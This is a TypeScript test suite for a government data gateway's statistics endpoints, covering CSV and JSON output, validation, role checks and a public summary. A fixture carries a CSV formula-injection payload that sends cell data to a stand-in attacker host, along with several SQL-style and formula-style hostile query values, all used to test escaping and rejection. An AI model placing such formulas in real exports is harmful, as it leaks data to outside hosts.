import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { RequestHandler } from 'express';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Caller, Role } from '../../gateway/access/caller.js';
import type { LookupAuditEvent } from '../../gateway/audit/audit-events.js';
import { createLogger } from '../../gateway/foundation/logger.js';
import { migrationsDir } from '../../gateway/foundation/paths.js';
import { createApp } from '../../gateway/http/app.js';
import { csvCell } from '../../gateway/statistics/statistics-csv.js';
import { rollUp } from '../../gateway/statistics/statistics-rollup.js';
import {
  createPublicStatisticsRouter,
  createStatisticsRouter,
} from '../../gateway/statistics/statistics-routes.js';
import { createStatisticsService } from '../../gateway/statistics/statistics-service.js';
import type { Database } from '../../gateway/storage/database.js';
import { migrate } from '../../gateway/storage/migrations.js';
import { createPgliteDatabase } from '../../gateway/storage/pglite-database.js';

/** Stands in for authentication: `X-Test-Caller: <system>;<role,role>`. */
const testCaller: RequestHandler = (req, res, next) => {
  const header = req.headers['x-test-caller'];
  if (typeof header === 'string') {
    const [systemId = '', roles = ''] = header.split(';');
    const caller: Caller = {
      systemId,
      department: systemId.split('/')[0] ?? '',
      roles: roles.split(',') as Role[],
    };
    res.locals.caller = caller;
  }
  next();
};

const PERIOD = 'from=2026-03-01T00:00:00%2B08:00&to=2026-03-03T00:00:00%2B08:00';
let database: Database;
let server: Server;
let base: string;

async function get(path: string, caller: string | undefined = 'data-office/audit-console;audit') {
  const response = await fetch(base + path, { headers: caller ? { 'x-test-caller': caller } : {} });
  const text = await response.text();
  const json = (response.headers.get('content-type') ?? '').includes('json');
  return {
    status: response.status,
    headers: response.headers,
    // biome-ignore lint/suspicious/noExplicitAny: tests read into response JSON.
    body: (json ? JSON.parse(text) : text) as any,
  };
}

function lookup(at: string, overrides: Partial<LookupAuditEvent> = {}): LookupAuditEvent {
  return {
    kind: 'lookup',
    lookupId: `l-${Math.random()}`,
    at,
    requester: { department: 'civil-affairs', system: 'civil-affairs/marriage-registry' },
    purpose: { matter: 'CA-0201', caseRef: 'CASE-2026-000123', officer: 'officer-042' },
    certificateType: 'resident-id-card',
    provider: 'public-security',
    outcome: 'granted',
    status: 200,
    latencyMs: 12,
    ...overrides,
  };
}

beforeAll(async () => {
  database = await createPgliteDatabase(undefined);
  await migrate(database, migrationsDir);
  const events = [
    lookup('2026-03-01T02:00:00Z'),
    lookup('2026-03-01T03:00:00Z', { outcome: 'denied', reason: 'matter-not-allowed', latencyMs: 1 }),
    lookup('2026-03-02T02:00:00Z', { outcome: 'not-found', reason: 'record-not-found' }),
    // What an attacker can put in a lookup: an unknown certificate type is recorded as sent.
    lookup('2026-03-02T03:00:00Z', {
      certificateType: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      provider: undefined,
      outcome: 'invalid',
      reason: 'unknown-certificate-type',
    }),
    lookup('2026-03-02T04:00:00Z', { certificateType: '-2+3', provider: undefined, outcome: 'invalid' }),
  ];
  await database.query(
    `INSERT INTO audit_events (sequence, prev_hash, hash, event)
     SELECT n, repeat('0', 64), repeat('0', 64), e FROM jsonb_array_elements($1::jsonb) WITH ORDINALITY AS t(e, n)`,
    [JSON.stringify(events)],
  );
  await rollUp(database);
  const service = createStatisticsService(database);
  const app = createApp({
    logger: createLogger('silent'),
    bodyLimitBytes: 1024,
    middleware: [testCaller],
    routers: [createPublicStatisticsRouter(service), createStatisticsRouter(service)],
  });
  server = createServer(app);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await new Promise((resolve) => server?.close(resolve));
  await database?.close();
});

describe('GET /v1/statistics', () => {
  it('answers JSON by day in Asia/Shanghai by default', async () => {
    const { status, body } = await get(`/v1/statistics?${PERIOD}&groupBy=requester`);
    expect(status).toBe(200);
    expect(body).toMatchObject({
      from: '2026-02-28T16:00:00.000Z',
      to: '2026-03-02T16:00:00.000Z',
      granularity: 'day',
      timeZone: 'Asia/Shanghai',
      groupBy: ['requester'],
      totals: {
        total: 5,
        granted: 1,
        denied: 1,
        notFound: 1,
        invalid: 2,
        deniedByReason: { 'matter-not-allowed': 1 },
      },
    });
    expect(body.rows.map((row: { period: string; total: number }) => [row.period, row.total])).toEqual([
      ['2026-03-01T00:00:00+08:00', 2],
      ['2026-03-02T00:00:00+08:00', 3],
    ]);
    expect(body.rows[0].latencyMs).toEqual({ p50: 12.5, p90: 14.5, p95: 14.8, p99: 15, mean: 12 });
  });

  it('answers CSV with one line per period and group, escaping formulas', async () => {
    const { status, headers, body } = await get(
      `/v1/statistics?${PERIOD}&groupBy=certificateType&format=csv`,
    );
    expect(status).toBe(200);
    expect(headers.get('content-type')).toMatch(/^text\/csv/);
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="silobridge-statistics-day-.*\.csv"$/,
    );
    const lines = (body as string).split('\r\n');
    expect(lines.at(-1)).toBe('');
    expect(lines[0]).toBe(
      'period,certificateType,total,granted,denied,notFound,failed,timedOut,invalid,denied:matter-not-allowed,latencyP50Ms,latencyP90Ms,latencyP95Ms,latencyP99Ms',
    );
    expect(lines.slice(1, -1)).toEqual([
      '2026-03-01T00:00:00+08:00,resident-id-card,2,1,1,0,0,0,0,1,12.5,14.5,14.8,15',
      "2026-03-02T00:00:00+08:00,'-2+3,1,0,0,0,0,0,1,0,,,,",
      `2026-03-02T00:00:00+08:00,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",1,0,0,0,0,0,1,0,,,,`,
      '2026-03-02T00:00:00+08:00,resident-id-card,1,0,0,1,0,0,0,0,12.5,14.5,14.8,15',
    ]);
    for (const dangerous of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) {
      expect(csvCell(dangerous).replace(/^"/, '')).toMatch(/^'/);
    }
  });

  it.each([
    ['granularity=minute', '/granularity'],
    ['groupBy=requester,officer', '/groupBy'],
    ['from=yesterday', '/from'],
    ['from=2026-02-30T00:00:00Z', '/from'],
    ['from=2026-03-02T00:00:00Z&to=2026-03-01T00:00:00Z', '/to'],
    ['granularity=hour&from=2026-01-01T00:00:00Z&to=2026-03-01T00:00:00Z', '/to'],
    ['timeZone=Mars/Olympus_Mons', '/timeZone'],
    ['timeZone=Asia/Kolkata', '/timeZone'],
    ['timeZone=%3Dcmd', '/timeZone'],
    ['requester=Civil%20Affairs', '/requester'],
    ['provider=x', '/provider'],
    ['certificateType=%27%3B%20DROP', '/certificateType'],
    ['format=xml', '/format'],
    ['requestor=civil-affairs', '/requestor'],
    ['granularity=day&granularity=week', '/granularity'],
  ])('answers 400 for %s, naming %s', async (query, pointer) => {
    const { status, headers, body } = await get(`/v1/statistics?${query}`);
    expect(status).toBe(400);
    expect(headers.get('content-type')).toMatch(/^application\/problem\+json/);
    expect(body.type).toBe('https://silobridge.dev/problems/invalid-request');
    expect(body.errors).toEqual([expect.objectContaining({ pointer })]);
  });

  it('refuses a caller without the audit role', async () => {
    const { status, body } = await get(`/v1/statistics?${PERIOD}`, 'service-centre/approval;lookup');
    expect(status).toBe(403);
    expect(body.type).toBe('https://silobridge.dev/problems/missing-role');
    expect((await get('/v1/statistics/scorecard', 'service-centre/approval;lookup')).status).toBe(403);
  });
});

describe('GET /v1/statistics/scorecard', () => {
  it('scores provider and requester departments', async () => {
    const { status, body } = await get(`/v1/statistics/scorecard?${PERIOD}`);
    expect(status).toBe(200);
    expect(body.providers).toEqual([expect.objectContaining({ department: 'public-security', lookups: 2 })]);
    expect(body.requesters).toEqual([
      { department: 'civil-affairs', lookups: 5, denied: 1, deniedByReason: { 'matter-not-allowed': 1 } },
    ]);
    expect((await get('/v1/statistics/scorecard?granularity=day')).body.errors).toEqual([
      expect.objectContaining({ pointer: '/granularity' }),
    ]);
  });
});

describe('GET /v1/public/summary', () => {
  it('answers anyone with department figures only, in whole hours, cacheable', async () => {
    const { status, headers, body } = await get(
      '/v1/public/summary?from=2026-03-01T00:30:00Z&to=2026-03-02T23:10:00Z',
      undefined,
    );
    expect(status).toBe(200);
    expect(headers.get('cache-control')).toBe('public, max-age=60');
    expect(body).toMatchObject({
      from: '2026-03-01T00:00:00.000Z',
      to: '2026-03-03T00:00:00.000Z',
      generatedAt: expect.any(String),
      providers: [
        {
          department: 'public-security',
          lookupsAnswered: 2,
          answeredWithinDeadline: 1,
          availability: null,
          medianLatencyMs: 12.5,
        },
      ],
      requesters: [{ department: 'civil-affairs', lookups: 5, deniedShare: 0.2 }],
      totals: { lookups: 5, answered: 2, denied: 1, deniedShare: 0.2 },
    });
    const text = JSON.stringify(body);
    for (const secret of [
      'marriage-registry',
      'officer-042',
      'CASE-2026',
      'CA-0201',
      'lookupId',
      'HYPERLINK',
    ]) {
      expect(text).not.toContain(secret);
    }
  });

  it('bounds the period and refuses unknown parameters', async () => {
    const long = await get('/v1/public/summary?from=2024-01-01T00:00:00Z&to=2026-01-01T00:00:00Z', undefined);
    expect(long.status).toBe(400);
    expect(long.body.errors).toEqual([{ pointer: '/to', reason: 'must be at most 366 days after from' }]);
    const unknown = await get('/v1/public/summary?groupBy=requester', undefined);
    expect(unknown.body.errors).toEqual([{ pointer: '/groupBy', reason: 'is not a known parameter' }]);
  });
});
